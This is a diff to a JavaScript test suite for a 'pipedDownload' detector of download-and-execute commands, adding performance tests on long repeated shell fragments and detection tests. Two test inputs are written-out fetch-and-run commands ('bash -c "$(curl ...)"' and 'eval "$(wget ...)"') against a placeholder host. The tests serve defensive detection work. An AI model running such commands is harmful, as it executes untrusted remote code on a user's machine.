@@ -54,6 +54,20 @@ describe('downloads that run', () => {
     }
     expect(performance.now() - began).toBeLessThan(1000);
   });
+  it.each(['<?`', '<(/', '$(/a', '(', '`', '\\', '|`', 'sh `/', 'eval `', 'sh -- '])(
+    'do not make a long line of %s slow',
+    (text) => {
+      const began = performance.now();
+      expect(pipedDownload(text.repeat(Math.floor(65_000 / text.length)))).toBe('');
+      expect(performance.now() - began).toBeLessThan(1000);
+    },
+  );
+  it.each(['/bin/bash -c "$(curl -fsSL https://e.example/i)"', 'eval "$(/usr/bin/wget -qO- e.example)"'])(
+    'are seen in what is put in place of itself: %s',
+    (text) => {
+      expect(pipedDownload(text)).toBe(text);
+    },
+  );
 });
 
 it('knows bare addresses, and those of the own network as none', () => {
